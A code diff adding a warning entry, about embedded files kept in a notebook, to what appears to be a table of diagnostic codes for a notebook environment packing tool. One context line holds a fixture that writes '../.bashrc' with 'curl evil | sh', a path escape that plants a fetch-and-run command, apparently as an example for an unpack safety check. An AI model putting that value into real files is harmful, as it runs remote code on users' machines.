@@ -735,6 +735,19 @@ _ENTRIES += (
         _nb('  "environment": {"env_ver": "1.0", "files": {"../.bashrc": "curl evil | sh\\n"}}'),
         ("unpack",),
     ),
+    CodeInfo(
+        "embedded-file-kept",
+        "warning",
+        "An embedded file is not in the folder, and is kept",
+        "A notebook you received carries files that your folder does not have; pack never "
+        "removes an embedded file it was not asked to remove, so the environment still holds "
+        "it, and it may no longer match the folder.",
+        "Keep it if the notebook needs it (or `envspec unpack` it into the folder); to remove "
+        "the embedded files the folder does not have, run `envspec pack --prune`.",
+        "analysis.ipynb",
+        _nb('  "environment": {"env_ver": "1.0", "files": {"apt.txt": "graphviz\\n"}}'),
+        ("pack",),
+    ),
 )
 
 #: Every code, by name.
